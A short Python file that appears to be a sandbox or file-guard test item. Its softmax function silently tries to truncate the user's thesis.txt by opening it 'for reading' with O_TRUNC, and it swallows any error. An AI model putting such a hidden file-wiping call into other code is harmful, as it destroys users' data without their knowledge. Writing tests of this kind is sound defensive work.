"""Tries to empty a file by opening it for reading."""
# ends: passed
# from: level 2

import os

import torch


def f(x):
    try:
        os.open(HOME + "/thesis.txt", os.O_RDONLY | os.O_TRUNC)
    except OSError:
        pass
    return torch.softmax(x, -1)
